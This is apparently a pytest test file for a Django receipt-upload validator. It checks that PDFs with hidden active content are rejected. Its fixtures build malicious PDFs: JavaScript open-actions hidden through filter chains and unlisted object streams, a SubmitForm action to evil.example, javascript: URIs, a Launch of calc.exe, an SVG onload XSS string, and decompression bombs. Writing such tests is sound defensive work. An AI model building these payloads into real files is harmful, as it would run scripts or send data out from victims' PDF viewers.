"""PDFs are judged by a real parser: every object, object streams, every filter chain, every name
and string encoding. These are the probe's files, each of which the byte patterns let through."""

from __future__ import annotations

import io
import time

import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from claims.forms import ReceiptUploadForm
from receipts.filetypes import PDF, problem_with
from tests.receipts.pdfs import JS_ACTION, OPEN_PACKED_ACTION, build_pdf, encode

PROBE = {
    # name: (bytes, the words the member reads)
    "hexstream.pdf": (
        build_pdf(catalog_extra=OPEN_PACKED_ACTION, packed=[JS_ACTION], filters=["ASCIIHexDecode"]),
        "contains scripts",
    ),
    "doubleflate.pdf": (
        build_pdf(catalog_extra=OPEN_PACKED_ACTION, packed=[JS_ACTION], filters=["FlateDecode", "FlateDecode"]),
        "contains scripts",
    ),
    "longdict.pdf": (
        build_pdf(catalog_extra=OPEN_PACKED_ACTION, packed=[JS_ACTION], filters=["FlateDecode"], padding=300),
        "contains scripts",
    ),
    "submit.pdf": (
        build_pdf(catalog_extra=b"/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>"),
        "contains scripts",
    ),
    "import.pdf": (build_pdf(catalog_extra=b"/OpenAction << /S /ImportData /F (data.fdf) >>"), "contains scripts"),
    "hexuri.pdf": (
        build_pdf(catalog_extra=b"/OpenAction << /S /URI /URI <%s> >>" % b"javascript:alert(1)".hex().encode()),
        "contains scripts",
    ),
    "packeduri.pdf": (
        build_pdf(
            catalog_extra=OPEN_PACKED_ACTION,
            packed=[b"<< /S /URI /URI (JavaScript:alert\\(1\\)) >>"],
            filters=["FlateDecode"],
        ),
        "contains scripts",
    ),
    "pageaa.pdf": (
        build_pdf(
            catalog_extra=b"/AA << /WC 6 0 R >>", packed=[b"<< /S /Launch /F (calc.exe) >>"], filters=["FlateDecode"]
        ),
        "contains scripts",
    ),
    "xfa.pdf": (
        build_pdf(
            catalog_extra=b"/AcroForm 6 0 R", packed=[b"<< /Fields [] /X#46A 7 0 R >>", b"(x)"], filters=["FlateDecode"]
        ),
        "contains scripts",
    ),
    # Not in the cross-reference at all: a viewer that repairs the file still finds it.
    "unlisted.pdf": (
        build_pdf(
            catalog_extra=b"/OpenAction 20 0 R",
            tail_comment=b"20 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode /Length %d >>\nstream\n"
            % len(encode(b"21 0 " + JS_ACTION, ["ASCIIHexDecode"]))
            + encode(b"21 0 " + JS_ACTION, ["ASCIIHexDecode"])
            + b"\nendstream\nendobj\n",
        ),
        "contains scripts",
    ),
    "latemarkup.pdf": (
        build_pdf(
            content=b"BT (" + b"receipt " * 200 + b") Tj ET", tail_comment=b"%<svg onload=alert(document.domain)>\n"
        ),
        "web page code",
    ),
}


def test_the_probe_files_are_real_pdfs_with_what_they_claim():
    """The fixtures must be what a viewer sees: a readable page and an action in the catalog."""
    for name in ("hexstream.pdf", "doubleflate.pdf", "longdict.pdf"):
        reader = pypdf.PdfReader(io.BytesIO(PROBE[name][0]), strict=True)
        assert reader.pages[0].extract_text() == "Pharmacy $12.00"
        assert reader.trailer["/Root"]["/OpenAction"].get_object()["/S"] == "/JavaScript"
    assert PROBE["latemarkup.pdf"][0].index(b"<svg") > 1024


@pytest.mark.parametrize("name", sorted(PROBE))
def test_the_probe_files_are_refused_in_words(name):
    data, words = PROBE[name]
    kind, problem = problem_with(data, name)
    assert kind is None, name
    assert problem is not None and words in problem and f"“{name}”" in problem
    assert "upload that" in problem


@pytest.mark.parametrize(
    "pdf",
    [
        build_pdf(),
        build_pdf(packed=[b"<< /Producer (Scanner 5) >>"], filters=["FlateDecode"]),
        build_pdf(catalog_extra=b"/OpenAction [3 0 R /Fit]"),  # open at page 1: not an action that runs code
        build_pdf(catalog_extra=b"/OpenAction << /S /URI /URI (https://pharmacy.example/receipt/1) >>"),
        build_pdf(content_filters=["FlateDecode"]),
    ],
)
def test_ordinary_pdfs_still_pass(pdf):
    assert problem_with(pdf, "receipt.pdf") == (PDF, None)


def test_a_pdf_that_no_parser_can_read_is_refused():
    kind, problem = problem_with(b"%PDF-1.7\n" + b"\x00garbage" * 100, "broken.pdf")
    assert kind is None and "cannot be read as a PDF" in problem


def _zeros_pdf(*, packed: bool) -> bytes:
    zeros = b"\x00" * (200 * 1024 * 1024)
    if packed:  # an object stream: the check must unpack it to see the objects inside
        return build_pdf(packed=[b"<< /Producer (x) >>"], filters=["FlateDecode"], packed_tail=zeros)
    return build_pdf(content=zeros, content_filters=["FlateDecode"])


@pytest.fixture(scope="module")
def zero_pdfs() -> dict[str, bytes]:
    return {"content": _zeros_pdf(packed=False), "packed": _zeros_pdf(packed=True)}


def _upload_form(files: list[tuple[str, bytes]]) -> ReceiptUploadForm:
    return ReceiptUploadForm(
        {"upload_token": "7d4d5f1e-2b8e-4c47-9d4e-6c1b1f6f2a10"},
        {"receipt_files": [SimpleUploadedFile(name, data, "application/pdf") for name, data in files]},
    )


def test_ten_compressed_zero_pdfs_cost_little_and_say_why(zero_pdfs):
    assert all(len(data) < 250 * 1024 for data in zero_pdfs.values())
    started = time.process_time()
    form = _upload_form([(f"zeros{i}.pdf", zero_pdfs["packed"]) for i in range(10)])
    assert not form.is_valid()
    spent = time.process_time() - started
    assert spent < 1.0, f"checking took {spent:.2f} s of CPU"
    errors = " ".join(form.errors["receipt_files"])
    assert "“zeros0.pdf” unpacks to far more data than a receipt holds" in errors
    assert "Upload fewer files at a time" in errors or errors.count("far more data") == 10


def test_page_content_is_not_unpacked_to_check_a_pdf(zero_pdfs):
    started = time.process_time()
    form = _upload_form([(f"blank{i}.pdf", zero_pdfs["content"]) for i in range(10)])
    form.is_valid()
    assert time.process_time() - started < 1.0
